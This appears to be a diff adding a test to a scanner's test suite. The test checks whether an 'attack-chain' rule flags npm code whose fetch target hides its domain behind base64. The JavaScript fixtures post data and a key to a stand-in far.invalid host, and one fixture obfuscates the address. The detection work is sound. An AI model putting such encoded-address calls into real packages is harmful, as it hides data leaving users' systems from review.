@@ -315,3 +315,19 @@ def test_a_program_that_sends_its_own_token_is_a_client() -> None:
     code = "fetch('https://far.invalid/', { headers: { authorization: process.env.FAR_TOKEN } });\n"
     files = {"package.json": package_json(bin="cli.js"), "cli.js": f"#!/usr/bin/env node\n{code}"}
     assert not of_rule(npm(files), "attack-chain")
+
+
+@pytest.mark.parametrize(
+    ("address", "held"),
+    [
+        ("`https://${id}-dsn.far.invalid/${key}`", False),
+        ("Buffer.from('aHR0cHM6Ly9rMS1kc24uZmFyLmludmFsaWQv', 'base64').toString() + key", True),
+    ],
+    ids=["a key is decoded", "the address is decoded"],
+)
+def test_only_an_address_whose_domain_is_decoded_is_hidden(address: str, held: bool) -> None:
+    code = (
+        "const id = 'K1';\nconst key = Buffer.from('c2VhcmNoLW9ubHk=', 'base64').toString();\n"
+        f"exports.ask = body => fetch({address}, {{ method: 'POST', headers: {{ key }}, body }});\n"
+    )
+    assert held is bool(of_rule(npm({"index.js": code}), "attack-chain"))
